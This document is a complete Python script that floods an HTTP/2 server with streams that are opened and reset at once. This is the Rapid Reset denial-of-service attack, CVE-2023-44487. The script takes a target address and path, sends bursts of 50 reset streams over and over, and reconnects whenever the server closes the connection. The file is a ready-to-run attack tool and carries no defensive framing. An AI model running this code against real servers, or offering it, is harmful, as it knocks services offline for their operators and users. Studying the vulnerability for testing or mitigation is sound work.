# SPDX-License-Identifier: Apache-2.0
"""Floods an HTTP/2 server with streams that are reset at once (CVE-2023-44487): python reset_flood.py ADDRESS PATH.

Prints the number of streams every now and then, until it is killed. A connection that the server closes is replaced.
"""

from __future__ import annotations

import socket
import sys
from collections.abc import Iterator

import h2.connection
import h2.errors
import h2.exceptions

STREAMS_AT_ONCE = 50
"""Opened and reset between two looks at what the server says."""
_STREAMS_PER_CONNECTION = 1_000_000  # ids end at 2**31


def flood(address: str, path: str) -> None:
    """Open and reset streams for ever."""
    count = 0
    while True:
        try:
            for streams in _connection(address, path):
                count += streams
                print(count, flush=True)
        except (OSError, h2.exceptions.ProtocolError):
            continue


def _connection(address: str, path: str) -> Iterator[int]:
    """One connection's flood; yields the streams of each burst."""
    host, _, port = address.rpartition(":")
    headers = [(":method", "POST"), (":scheme", "http"), (":authority", address), (":path", path)]
    headers += [("content-type", "application/grpc")]
    with socket.create_connection((host, int(port)), timeout=10) as connected:
        protocol = h2.connection.H2Connection()
        protocol.initiate_connection()
        connected.sendall(protocol.data_to_send())
        for _ in range(_STREAMS_PER_CONNECTION // STREAMS_AT_ONCE):
            for _ in range(STREAMS_AT_ONCE):
                stream = protocol.get_next_available_stream_id()
                protocol.send_headers(stream, headers)
                protocol.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
            connected.sendall(protocol.data_to_send())
            yield STREAMS_AT_ONCE
            connected.setblocking(False)
            try:
                if not (data := connected.recv(1 << 16)):
                    return
                protocol.receive_data(data)
            except BlockingIOError:
                pass
            finally:
                connected.setblocking(True)


if __name__ == "__main__":
    flood(*sys.argv[1:3])
